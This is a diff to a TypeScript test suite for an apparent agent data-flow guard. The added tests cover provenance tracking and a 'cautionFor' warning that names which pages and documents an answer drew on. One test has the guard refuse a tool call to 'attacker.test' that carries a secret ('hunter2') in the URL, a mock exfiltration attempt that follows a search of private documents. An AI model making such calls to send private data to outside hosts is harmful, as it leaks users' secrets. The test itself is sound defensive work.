@@ -4,7 +4,7 @@ import type { OwnServerKind } from '../../src/config/server-env.js';
 import { createApprovalGate, withApproval, type AskUser } from '../../src/mcp/approval-gate.js';
 import type { ApprovalDecision, ToolCaller, ToolInfo, ToolResult } from '../../src/mcp/types.js';
 import { givenPlaces } from '../../src/policy/destinations.js';
-import { FlowGuard, type FlowPolicy } from '../../src/policy/flow-guard.js';
+import { cautionFor, FlowGuard, type FlowPolicy } from '../../src/policy/flow-guard.js';
 import { decideFlow } from '../../src/policy/flow-policy.js';
 import { classifyTool } from '../../src/policy/tool-class.js';
 
@@ -79,7 +79,7 @@ describe('FlowGuard', () => {
     const refused = await call(guard, READ_PAGE, { url: 'http://attacker.test/c?d=hunter2' });
     expect(refused).toMatchObject({ approved: false, reason: expect.stringContaining('the data-flow policy refused it') });
     expect(servers.ran).toEqual(['documents.search_stored_documents']);
-    expect(guard.provenance).toEqual([{ server: 'documents', tool: 'search_stored_documents', untrusted: true, private: true }]);
+    expect(guard.provenance).toEqual([{ server: 'documents', tool: 'search_stored_documents', untrusted: true, private: true, places: [] }]);
   });
 
   it('refuses what needs the user when nobody can be asked, saying how to allow it', async () => {
@@ -147,5 +147,24 @@ describe('FlowGuard', () => {
     await guard.callTool('office', 'read_inbox', {});
     expect(guard.seen()).toEqual({ untrusted: true, private: true });
     expect(await call(guard, ADD, { a: 1, b: 2 })).toEqual({ approved: true });
+  });
+});
+
+describe('cautionFor', () => {
+  it('names where an answer drawn on pages or documents came from, and says nothing for arithmetic', async () => {
+    const { guard } = guardFor('What does http://news.example/today say, and what is 2 + 2?');
+    await call(guard, ADD, { a: 2, b: 2 });
+    expect(cautionFor(guard.provenance)).toBeNull();
+    await call(guard, READ_PAGE, { url: 'http://news.example/today' });
+    await call(guard, READ_PAGE, { url: 'http://news.example/later' });
+    await call(guard, SEARCH_DOCS, { query: 'meeting' });
+    const caution = cautionFor(guard.provenance)!;
+    expect(caution).toContain('news.example, read by websearch.download_raw_html_from_url, documents.search_stored_documents');
+    expect(caution).toContain('can mislead the model');
+  });
+
+  it('keeps a long list short', () => {
+    const many = Array.from({ length: 9 }, (_, i) => ({ server: 'web', tool: 'fetch', untrusted: true, private: false, places: [`site${i}.example`] }));
+    expect(cautionFor(many)).toMatch(/^Drawn from site0\.example, site1\.example, site2\.example and 6 more, read by web\.fetch:/);
   });
 });
